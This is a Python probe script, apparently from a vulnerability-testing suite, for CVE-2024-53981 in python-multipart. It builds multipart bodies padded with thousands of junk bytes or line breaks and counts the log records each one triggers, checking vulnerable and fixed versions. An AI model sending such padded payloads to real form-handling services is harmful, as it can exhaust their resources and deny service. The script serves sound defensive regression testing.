# /// vertice-probe
# id = "GHSA-59g5-xgcq-4qw3"
# aliases = ["CVE-2024-53981"]
# package = "python-multipart"
# summary = "Bytes around the parts of a form are skipped one by one with a log record each, a denial of service."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-770"]
# kind = "dos"
# symbols = [
#   "multipart.MultipartParser",
#   "multipart.create_form_parser",
#   "multipart.parse_form",
#   "multipart.multipart.MultipartParser",
#   "python_multipart.MultipartParser",
#   "python_multipart.multipart.MultipartParser",
#   "python_multipart.create_form_parser",
#   "python_multipart.parse_form",
#   "starlette.requests.Request.form",
#   "fastapi.Form",
#   "fastapi.UploadFile",
#   "fastapi.File",
# ]
#
# [[affected]]
# package = "python-multipart"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.0.18" }] }]
#
# [cases]
# attack = "every byte after the last boundary makes a warning"
# [cases.variants]
# line_breaks = "every line break before the first boundary makes a record in a service that logs at debug level"
# [cases.controls]
# form = "an ordinary form gives its field and its file"
#
# [test]
# vulnerable = "0.0.17"
# fixed = "0.0.18"
# ///
"""CVE-2024-53981: one log record for each byte around a multipart form."""

import io
import json
import logging
import sys
import warnings

warnings.simplefilter("ignore")
BYTES = 4000
FORM = (
    b'--abc\r\nContent-Disposition: form-data; name="a"\r\n\r\nhello\r\n'
    b'--abc\r\nContent-Disposition: form-data; name="f"; filename="x.txt"\r\n\r\nworld\r\n--abc--\r\n'
)


def load():
    try:
        import python_multipart as package  # the name since 0.0.13
    except ImportError:
        import multipart as package
    return package


class Count(logging.Handler):
    records = 0

    def emit(self, record):
        self.records += 1


def parse(body, level):
    """(fields and files of the body, number of log records it made)."""
    package, count, got = load(), Count(), []
    # the base records of a callback are debug lines too and come with every part: only the parser's own are counted
    logger = logging.getLogger(package.MultipartParser.__module__)
    logger.addHandler(count)
    logger.propagate = False
    logger.setLevel(level)
    headers = {"Content-Type": b"multipart/form-data; boundary=abc", "Content-Length": str(len(body)).encode()}
    package.parse_form(
        headers,
        io.BytesIO(body),
        lambda field: got.append((field.field_name, field.value)),
        lambda file: got.append((file.field_name, file.file_object.seek(0) or file.file_object.read())),
    )
    return got, count.records


def parse_and_look(before, after, level):
    plain, usual = parse(FORM, level)
    got, records = parse(before + FORM + after, level)
    if plain != [(b"a", b"hello"), (b"f", b"world")] or got != plain:
        return "error", "the form was not read: %r" % (got,)
    extra = records - usual
    facts = "%d more bytes made %d more log records; the form was read" % (BYTES, extra)
    if extra >= BYTES:
        return "exploited", facts
    return ("blocked" if extra <= BYTES // 100 else "error"), facts


def attack():
    return parse_and_look(b"", b"x" * BYTES, logging.WARNING)


def line_breaks():
    return parse_and_look(b"\r\n" * (BYTES // 2), b"", logging.DEBUG)


def form():
    got, _ = parse(FORM, logging.WARNING)
    return ("works", "field and file read") if got == [(b"a", b"hello"), (b"f", b"world")] else ("broken", repr(got))


CASES = {"attack": attack, "line_breaks": line_breaks, "form": form}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
